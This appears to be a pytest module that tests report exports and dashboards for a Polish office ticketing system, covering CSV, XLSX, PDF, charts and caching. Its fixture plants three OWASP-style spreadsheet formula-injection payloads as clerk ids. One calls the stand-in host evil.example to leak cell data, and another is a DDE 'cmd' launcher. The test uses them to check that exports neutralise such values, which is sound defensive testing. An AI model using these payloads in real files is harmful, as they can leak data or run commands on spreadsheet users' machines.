"""Reports for a Polish office: the dashboard at 1280 px with periods and comparison, the live
view's clock, charts drawn once, and the exports (Excel CSV, typed XLSX, the monthly PDF) read
back with real readers.

One module-wide office: the real simulator runs two working weeks (26 October to 6 November
2026) of the test office into a real SQLite file; then three clerks' ids are replaced in that
file by text a spreadsheet would run as a formula (as if typed before ids were restricted: the
exports must be safe whatever the database holds); the real ``numerek-server`` serves it with
its clock on Monday 9 November. Files are read back with Python's csv module under the
``pl_PL.UTF-8`` locale (numbers through ``locale.atof``), openpyxl (cell types and formats),
the XLSX's own XML, and poppler's pdfinfo / pdftotext / pdfimages; pages are looked at in
Debian's headless Chromium at 1280 × 800 (screenshots in tests/artifacts).
"""

from __future__ import annotations

import base64
import concurrent.futures
import csv
import io
import json
import re
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from datetime import date, datetime

import httpx
import pytest
from openpyxl import load_workbook

from tests.browser import CHROMIUM, Page, SharedChromium
from tests.harness import ARTIFACTS, Broker, ServerProcess, free_port, run_tool, wait_for, write_config

HOURS = '{ mon = "08:00-16:00", tue = "08:00-16:00", wed = "08:00-17:00", thu = "08:00-16:00", fri = "08:00-15:00" }'
MANAGER = ("kierownik", "dobre-haslo-42")
AUTH = {"Authorization": "Basic " + base64.b64encode(f"{MANAGER[0]}:{MANAGER[1]}".encode()).decode()}
# clerk id in the simulation -> what a spreadsheet would take for a formula (OWASP's leading characters)
HOSTILE = {
    "clerk-01": '=HYPERLINK("http://evil.example/?d="&A1,"Kliknij")',
    "clerk-02": "+48-600-100-200",
    "clerk-03": "@SUM(1+1)*cmd|' /C calc'!A0",
}
NOV = "from=2026-11-02&to=2026-11-06"
POLISH = "pl_PL.UTF-8"
HAVE_POLISH = subprocess.run(["locale", "-a"], capture_output=True, text=True).stdout.lower().count("pl_pl.utf") > 0
POPPLER = shutil.which("pdftotext") and shutil.which("pdfinfo") and shutil.which("pdfimages")

# A reader as a Polish office's script would be: csv with ";" and the BOM handled, numbers in the
# Polish locale. It prints what it read as JSON (numbers already converted by the locale).
READER = r"""
import csv, json, locale, sys
locale.setlocale(locale.LC_ALL, "")
assert locale.localeconv()["decimal_point"] == ",", locale.localeconv()
raw = open(sys.argv[1], "rb").read()
with open(sys.argv[1], encoding="utf-8-sig", newline="") as f:
    rows = list(csv.reader(f, delimiter=";"))
def number(text):
    try:
        return locale.atof(text)
    except ValueError:
        return text
print(json.dumps({"bom": raw.startswith(b"\xef\xbb\xbf"), "header": rows[0],
                  "rows": [[number(c) for c in r] for r in rows[1:]]}))
"""


def run(module: str, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess:
    """``python -m <module> <args>`` (forked from the server zygote: tests/harness.py ``run_tool``)."""
    return run_tool(module, *args, input=stdin)


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("exports")
    broker = Broker(tmp).start()
    http_port = free_port()
    cfg = write_config(tmp / "office.toml", broker.port, http_port, hours=HOURS)
    db = tmp / "numerek.db"
    sim = run(
        "server.simulate",
        *("--config", str(cfg), "--database", str(db), "--start", "2026-10-26", "--days", "12"),
        *("--scale", "0.5", "--seed", "5", "--json"),
    )
    assert sim.returncode == 0, sim.stderr
    conn = sqlite3.connect(db)
    with conn:
        for clerk, hostile in HOSTILE.items():
            for table in ("tickets", "events", "counters"):
                conn.execute(f"UPDATE {table} SET clerk = ? WHERE clerk = ?", (hostile, clerk))
    conn.close()
    added = run(
        "server.auth",
        *("--config", str(cfg), "add", MANAGER[0], "--role", "manager", "--password-stdin"),
        stdin=MANAGER[1] + "\n",
    )
    assert added.returncode == 0, added.stderr
    server = ServerProcess(cfg, http_port=http_port, args=["--clock-start", "2026-11-09T09:00:00"]).start()
    yield server, tmp
    server.stop()
    broker.stop()


def get(server: ServerProcess, path: str) -> httpx.Response:
    resp = httpx.get(server.url + path, headers=AUTH, timeout=120)
    assert resp.status_code == 200, (path, resp.status_code, resp.text[:300])
    return resp


def read_polish_csv(path) -> dict:
    """Read an Excel CSV the way a Polish office's script does, in the Polish locale."""
    done = subprocess.run(
        [sys.executable, "-c", READER, str(path)],
        capture_output=True,
        text=True,
        env={"LC_ALL": POLISH, "LANG": POLISH, "PATH": "/usr/bin:/bin"},
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@pytest.mark.skipif(not HAVE_POLISH, reason="no pl_PL.UTF-8 locale (.ci/setup makes it)")
def test_excel_csv_has_semicolons_a_bom_polish_names_and_decimal_commas(office, tmp_path):
    server, _ = office
    api = get(server, f"/reports/api/summary?{NOV}").json()
    resp = get(server, f"/reports/export/by_service.csv?{NOV}&excel=1")
    assert "excel" in resp.headers["content-disposition"]
    path = tmp_path / "by_service.csv"
    path.write_bytes(resp.content)
    got = read_polish_csv(path)
    assert got["bom"] is True
    header = got["header"]
    assert header[:4] == ["Sprawa (id)", "Sprawa", "Sprawa (ang.)", "Czas docelowy [s]"]
    assert "Czas oczekiwania – średnia [s]" in header and "W czasie docelowym – udział" in header
    rows = {r[0]: dict(zip(header, r, strict=True)) for r in got["rows"]}
    for svc in api["by_service"]:
        row = rows[svc["service"]]
        assert row["Sprawa"] == svc["name"]["pl"]
        assert row["Wydane bilety"] == svc["issued"]
        # numbers with a fraction were written with a decimal comma and read back by the Polish locale
        assert row["Czas oczekiwania – średnia [s]"] == pytest.approx(svc["wait"]["mean_s"])
        assert row["W czasie docelowym – udział"] == pytest.approx(svc["wait"]["within_target_share"])
    text = resp.content.decode("utf-8-sig")
    assert "." not in text.split("\n")[1].split(";", 4)[4]  # no dot decimals in the figures
    # the plain CSV beside it is unchanged: commas, no BOM, English identifiers, dot decimals
    plain = get(server, f"/reports/export/by_service.csv?{NOV}")
    assert not plain.content.startswith(b"\xef\xbb\xbf")
    first = next(csv.DictReader(io.StringIO(plain.text)))
    assert "wait_mean_s" in first and float(first["wait_mean_s"]) > 0


@pytest.mark.skipif(not HAVE_POLISH, reason="no pl_PL.UTF-8 locale (.ci/setup makes it)")
def test_excel_csv_of_raw_tickets_has_local_times_excel_recognises(office, tmp_path):
    server, _ = office
    path = tmp_path / "tickets.csv"
    path.write_bytes(get(server, f"/reports/export/tickets.csv?{NOV}&excel=1").content)
    got = read_polish_csv(path)
    header = got["header"]
    plain = list(csv.DictReader(io.StringIO(get(server, f"/reports/export/tickets.csv?{NOV}").text)))
    assert len(got["rows"]) == len(plain) > 100
    for excel_row, plain_row in zip(got["rows"][:50], plain[:50], strict=True):
        row = dict(zip(header, excel_row, strict=True))
        issued = datetime.strptime(row["Wydany"], "%Y-%m-%d %H:%M:%S")
        assert issued == datetime.fromisoformat(plain_row["issued_at"]).replace(tzinfo=None)  # office's local time
        assert 7 <= issued.hour <= 17  # office hours in Warsaw, not UTC
        assert row["Pierwszeństwo"] in ("tak", "nie")
        if plain_row["wait_s"]:
            assert row["Czas oczekiwania [s]"] == pytest.approx(float(plain_row["wait_s"]))


def test_xlsx_has_dates_times_numbers_and_percentages(office):
    server, _ = office
    wb = load_workbook(io.BytesIO(get(server, f"/reports/export/all.xlsx?{NOV}").content))
    tickets = wb["tickets"]
    header = [c.value for c in tickets[1]]
    assert header[:2] == ["Dzień", "Numer"]  # column names in Polish by default
    day, issued, wait = (header.index(h) for h in ("Dzień", "Wydany", "Czas oczekiwania [s]"))
    rows = list(tickets.iter_rows(min_row=2))
    assert rows
    for row in rows:
        assert row[day].is_date and row[day].value.date() >= date(2026, 11, 2)
        assert row[issued].is_date and isinstance(row[issued].value, datetime)
        assert row[issued].number_format in ("yyyy-mm-dd h:mm:ss", "yyyy-mm-dd hh:mm:ss")
        if row[wait].value is not None:
            assert row[wait].data_type == "n" and isinstance(row[wait].value, int | float)
    by_day = wb["by_day"]
    assert all(r[0].is_date for r in by_day.iter_rows(min_row=2))
    share = [c for c in next(by_day.iter_rows(min_row=1, max_row=1)) if c.value == "W czasie docelowym – udział"][0]
    cell = by_day.cell(row=2, column=share.column)
    assert cell.data_type == "n" and 0 <= cell.value <= 1 and cell.number_format == "0.0%"
    totals = {r[0].value: r[1] for r in wb["totals"].iter_rows(min_row=2)}
    assert totals["Filtr: od"].is_date and totals["Wydane bilety"].data_type == "n"
    english = load_workbook(io.BytesIO(get(server, f"/reports/export/by_day.xlsx?{NOV}&lang=en").content))
    assert [c.value for c in english.active[1]][:3] == ["Day", "Tickets issued", "Served"]


def test_a_clerk_id_that_looks_like_a_formula_never_becomes_one(office, tmp_path):
    """OWASP CSV injection: a leading = + - @ tab or CR is neutralised in every export."""
    server, _ = office
    # plain CSV (csv module) and the Excel CSV (the Polish dialect): a leading apostrophe
    plain = list(csv.DictReader(io.StringIO(get(server, f"/reports/export/by_clerk.csv?{NOV}").text)))
    excel_text = get(server, f"/reports/export/by_clerk.csv?{NOV}&excel=1").content.decode("utf-8-sig")
    excel = list(csv.DictReader(io.StringIO(excel_text), delimiter=";"))
    for hostile in HOSTILE.values():
        assert "'" + hostile in [r["clerk"] for r in plain]
        assert "'" + hostile in [r["Urzędnik"] for r in excel]
    for rows in (plain, excel):
        for r in rows:
            assert not next(iter(r.values())).startswith(("=", "+", "-", "@", "\t", "\r"))
    raw = list(csv.DictReader(io.StringIO(get(server, f"/reports/export/tickets.csv?{NOV}").text)))
    assert {r["clerk"] for r in raw} >= {"'" + h for h in HOSTILE.values()}
    # XLSX: the text as typed, in a string cell with Excel's quote prefix; no formula anywhere
    for name in ("by_clerk", "tickets", "all"):
        body = get(server, f"/reports/export/{name}.xlsx?{NOV}").content
        with zipfile.ZipFile(io.BytesIO(body)) as z:
            for sheet in (n for n in z.namelist() if n.startswith("xl/worksheets/")):
                xml = z.read(sheet).decode()
                assert "<f>" not in xml and "<f " not in xml, (name, sheet)
        wb = load_workbook(io.BytesIO(body))
        ws = wb["by_clerk" if name != "tickets" else "tickets"]
        cells = {c.value: c for row in ws.iter_rows() for c in row if c.value in HOSTILE.values()}
        assert set(cells) == set(HOSTILE.values()), name
        for cell in cells.values():
            assert cell.data_type == "s" and cell.quotePrefix, (name, cell.value)


@pytest.mark.skipif(not POPPLER, reason="poppler-utils is not installed (.ci/setup installs it)")
def test_monthly_pdf_has_vector_charts_and_no_near_empty_pages(office, tmp_path):
    server, _ = office
    pdf = tmp_path / "month.pdf"
    pdf.write_bytes(get(server, "/reports/monthly.pdf?month=2026-11&lang=pl").content)
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    shutil.copy(pdf, ARTIFACTS / "reports-monthly-2026-11.pdf")
    env = {"LC_ALL": POLISH if HAVE_POLISH else "C.UTF-8", "PATH": "/usr/bin:/bin"}
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, env=env, check=True).stdout
    pages = int(re.search(r"Pages:\s+(\d+)", info).group(1))
    width, height = (float(x) for x in re.search(r"Page size:\s+([\d.]+) x ([\d.]+)", info).groups())
    assert pages == 3 and width > height  # headline + daily chart, four charts, the three tables: A4 landscape
    images = subprocess.run(["pdfimages", "-list", str(pdf)], capture_output=True, text=True, env=env, check=True)
    assert len(images.stdout.strip().splitlines()) == 2, images.stdout  # only the header lines: no bitmaps
    for page in range(1, pages + 1):
        box = subprocess.run(
            ["pdftotext", "-bbox", "-f", str(page), "-l", str(page), str(pdf), "-"],
            capture_output=True,
            text=True,
            env=env,
            check=True,
        ).stdout
        bottoms = [float(y) for y in re.findall(r'<word [^>]*yMax="([\d.]+)"', box)]
        content = [y for y in bottoms if y < height - 0.5 * 72]  # not the footer line
        if page < pages:
            assert max(content) > 0.6 * height, f"page {page} is mostly empty"
        else:
            assert len(content) > 50
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, env=env).stdout
    assert "Podsumowanie miesiąca: listopad 2026" in text
    assert "Porównanie z okresem: 1.10.2026 – 31.10.2026" in text
    assert "Według stanowisk" in text and "Według urzędników" in text
    for counter in ("Stanowisko 1", "Stanowisko 2", "Stanowisko 3"):
        assert counter in text


def test_monthly_report_compares_with_the_month_before_and_is_ready_to_attach(office):
    """The builder the e-mail job will call: subject, text with changes, PDF and XLSX."""
    server, _ = office
    from server.config import load_config
    from server.reports.figures import ReportData
    from server.reports.monthly import build_monthly_report

    data = ReportData(str(server.database), load_config(server.config))
    try:
        report = build_monthly_report(data, date(2026, 11, 1), "pl")
        nov = data.summary(data.parse_filters("2026-11-01", "2026-11-30"))
        octo = data.summary(data.parse_filters("2026-10-01", "2026-10-31"))
    finally:
        data.close()
    assert octo.totals.issued > 0 and nov.totals.issued > 0
    assert report.subject == "Numerek — Podsumowanie miesiąca: listopad 2026 — Urząd Testowy w Łodzi"
    change = nov.totals.issued - octo.totals.issued
    assert f"Wydane bilety: {nov.totals.issued}  (poprzednio {octo.totals.issued}; {change:+d} (" in report.text
    names = [a[0] for a in report.attachments()]
    assert names == ["numerek-2026-11.pdf", "numerek-2026-11.xlsx"]
    assert report.pdf.startswith(b"%PDF")
    wb = load_workbook(io.BytesIO(report.xlsx))
    assert wb.sheetnames[0] == "comparison"
    rows = {r[0].value: r for r in wb["comparison"].iter_rows(min_row=2)}
    issued = rows["Wydane bilety"]
    assert [c.value for c in issued[1:]] == [nov.totals.issued, octo.totals.issued, change]
    assert all(c.data_type == "n" for c in issued[1:])


# ---------------------------------------------------------------------- the dashboard


def signed_in_page(chromium: SharedChromium, server: ServerProcess, path: str) -> Page:
    """Chromium at 1280 × 800, signed in through the login form as the manager."""
    page = chromium.open(f"{server.url}/login?next={httpx.QueryParams({'x': path})['x']}")
    wait_for(lambda: page.js("!!document.querySelector('input[name=password]')"), 20, "the login form")
    page.js(
        f"document.querySelector('input[name=name]').value = {json.dumps(MANAGER[0])};"
        f"document.querySelector('input[name=password]').value = {json.dumps(MANAGER[1])};"
        "document.querySelector('form[action=\"/login\"]').requestSubmit()"
    )
    wait_for(lambda: page.js("location.pathname") == path.split("?")[0], 20, f"{path} after signing in")
    return page


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (apt-get install chromium)")
def test_dashboard_fits_a_1280_px_window_and_its_charts_load_after_the_page(office, chromium):
    server, _ = office
    page = signed_in_page(chromium, server, "/reports?period=last_week")
    try:
        wait_for(lambda: page.js("document.readyState") == "complete", 60, "the page loaded")
        images = "[...document.querySelectorAll('img[data-chart]')]"
        assert page.js(f"{images}.map(i => i.dataset.chart)") == ["heatmap", "daily", "wait", "utilisation", "ratings"]
        page.js(f"{images}.at(-1).scrollIntoView()")  # a manager scrolls down to the charts (they load lazily)
        wait_for(lambda: page.js(f"{images}.every(i => i.complete && i.naturalWidth > 0)"), 120, "every chart drawn")
        page.js("window.scrollTo(0, 0)")
        assert page.js("window.innerWidth") == 1280
        widest = page.js(
            "Math.max(document.documentElement.scrollWidth,"
            " ...[...document.querySelectorAll('main *')].map(e => e.getBoundingClientRect().right))"
        )
        assert widest <= 1280, f"something is {widest} px wide in a 1280 px window"
        assert page.js("document.querySelector('a[data-preset=last_week]').classList.contains('active')")
        # The page was usable before its charts: they are images loaded after the HTML (lazily).
        timing = page.js("JSON.stringify(performance.getEntriesByType('navigation')[0].toJSON())")
        (ARTIFACTS / "reports-dashboard-timing.json").write_text(timing)
        page.screenshot(ARTIFACTS / "reports-dashboard-1280.png")
        page.screenshot(ARTIFACTS / "reports-dashboard-1280-full.png", full=True)
    finally:
        page.close()


def card(html: str, key: str) -> str:
    return html.split(f'data-figure="{key}"', 1)[1].split("</div>", 1)[0]


def test_period_presets_and_the_change_against_the_previous_period(office):
    server, _ = office
    html = get(server, "/reports?period=last_week").text  # the server's today: Monday 9 November 2026
    links = dict(re.findall(r'href="/reports\?([^"]+)" data-preset="(\w+)"', html))
    presets = {name: dict(httpx.QueryParams(q.replace("&amp;", "&"))) for q, name in links.items()}
    assert (presets["this_week"]["from"], presets["this_week"]["to"]) == ("2026-11-09", "2026-11-09")
    assert (presets["last_week"]["from"], presets["last_week"]["to"]) == ("2026-11-02", "2026-11-08")
    assert (presets["this_month"]["from"], presets["this_month"]["to"]) == ("2026-11-01", "2026-11-09")
    assert (presets["last_month"]["from"], presets["last_month"]["to"]) == ("2026-10-01", "2026-10-31")
    assert presets["same_month_last_year"]["from"] == "2025-11-01"
    api = get(server, "/reports/api/summary?period=last_week&compare=previous").json()
    assert api["filters"]["from"] == "2026-11-02" and api["comparison"]["from"] == "2026-10-26"
    now, before = api["totals"], api["comparison"]["totals"]
    assert now["issued"] > 0 and before["issued"] > 0
    issued = card(html, "issued")
    assert f'<b id="issued">{now["issued"]}</b>' in issued
    assert f"{now['issued'] - before['issued']:+d} (" in issued and f"poprzednio {before['issued']}" in issued
    wait = card(html, "wait")
    change = (now["wait"]["mean_s"] - before["wait"]["mean_s"]) / 60
    assert f"{change:+.1f} min".replace(".", ",") in wait
    assert ("better" if change < 0 else "worse") in wait  # a shorter wait is better
    assert "Porównanie z okresem: 26.10.2026 – 1.11.2026" in html
    english = get(server, "/reports?period=last_week&lang=en&compare=none").text
    assert "previously" not in card(english, "issued") and "Compare with" in english


def test_the_heat_map_says_it_shows_totals_of_the_period(office):
    server, _ = office
    svg = get(server, "/reports/chart/heatmap.svg?from=2026-11-02&to=2026-11-06").text
    assert "suma biletów" in svg and "Sumy z całego okresu (nie średnie)" in svg
    assert "Pn (1)" in svg and "So (0)" in svg  # each weekday with the number of days it sums
    english = get(server, "/reports/chart/heatmap.svg?from=2026-10-26&to=2026-11-06&lang=en").text
    assert "Totals over the whole period (not averages)" in english and "Mon (2)" in english


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (apt-get install chromium)")
def test_live_view_shows_a_local_time_not_an_iso_stamp(office, chromium):
    server, _ = office
    page = signed_in_page(chromium, server, "/reports/live")
    polish_time = r"^\d{1,2} (sty|lut|mar|kwi|maj|cze|lip|sie|wrz|paź|lis|gru) 2026, \d{2}:\d{2}:\d{2}$"
    try:
        first = page.js("document.getElementById('time').textContent")
        stamp = page.js("document.getElementById('time').dateTime")
        assert re.match(polish_time, first), first
        assert first.startswith("9 lis 2026, 09:") or first.startswith("9 lis 2026, 10:")  # Warsaw time
        # the page refreshes itself every 10 s from the JSON API and writes the time the same way
        wait_for(lambda: page.js("document.getElementById('time').dateTime") != stamp, 40, "a refresh")
        again = page.js("document.getElementById('time').textContent")
        assert re.match(polish_time, again) and "T" not in again, again
        page.screenshot(ARTIFACTS / "reports-live-1280.png")
    finally:
        page.close()


# ---------------------------------------------------------------------- charts and the figures' cache


@pytest.fixture(scope="module")
def figures(office):
    from server.config import load_config
    from server.reports.figures import ReportData

    server, tmp = office
    copy = tmp / "copy.db"
    src = sqlite3.connect(server.database)
    dst = sqlite3.connect(copy)
    src.backup(dst)
    src.close()
    dst.close()
    data = ReportData(str(copy), load_config(server.config))
    yield data, copy
    data.close()


def test_chart_legends_and_notes_never_cover_the_plot(figures):
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    from server.reports import charts

    data, _ = figures
    s = data.summary(data.parse_filters("2026-10-26", "2026-11-06"))
    for lang in ("pl", "en"):
        for name in charts.CHARTS:
            fig = charts.figure(name, s, lang)
            renderer = FigureCanvasAgg(fig).get_renderer()
            fig.draw(renderer)
            plots = [ax.get_window_extent(renderer) for ax in fig.axes]
            legends = [lg.get_window_extent(renderer) for lg in fig.legends]
            notes = [t.get_window_extent(renderer) for t in fig.texts]
            assert legends or name in ("heatmap", "utilisation", "ratings"), name
            for box in legends + notes:
                for plot in plots:
                    assert not box.overlaps(plot), (name, lang, box, plot)
                assert box.x1 <= fig.bbox.x1 + 1 and box.y1 <= fig.bbox.y1 + 1, (name, lang)


def test_a_chart_is_drawn_once_for_the_same_figures_even_when_asked_twice_at_once(figures):
    from server.reports import charts
    from server.reports.cache import RenderCache, chart_key

    data, _ = figures
    s = data.summary(data.parse_filters("2026-10-26", "2026-11-06"))
    cache = RenderCache()
    key = chart_key(s, "pl", "daily")
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        bodies = list(pool.map(lambda _: cache.get(key, lambda: charts.svg("daily", s, "pl")), range(4)))
    assert cache.rendered == 1 and len(set(bodies)) == 1
    cache.prefetch(chart_key(s, "pl", "wait"), lambda: charts.svg("wait", s, "pl"))
    wait_svg = cache.get(chart_key(s, "pl", "wait"), lambda: charts.svg("wait", s, "pl"))
    assert cache.rendered == 2 and b"<svg" in wait_svg
    other = data.summary(data.parse_filters("2026-11-02", "2026-11-06"))
    assert chart_key(other, "pl", "daily") != key  # other figures are another drawing, never a stale one
    assert cache.get(chart_key(other, "pl", "daily"), lambda: charts.svg("daily", other, "pl")) != bodies[0]


def test_figures_of_a_past_period_are_computed_once_while_the_office_works(figures):
    data, copy = figures
    past = data.parse_filters("2026-10-26", "2026-10-30")
    latest = data.parse_filters(None, None)  # ends on the latest office day in the file
    before = data.computations
    first = data.summary(past)
    data.summary(latest)
    assert data.computations == before + 2
    conn = sqlite3.connect(copy)  # the office goes on: a counter opens on the latest day
    with conn:
        conn.execute(
            "INSERT INTO events (id, at, day, kind, counter, clerk) "
            "SELECT max(id) + 1, max(at) + 60, max(day), 'counter_open', '1', 'clerk-09' FROM events"
        )
    conn.close()
    assert data.summary(past) is first  # the same object: not recomputed, so not redrawn
    data.summary(latest)
    assert data.computations == before + 3  # the latest day's figures follow the new event
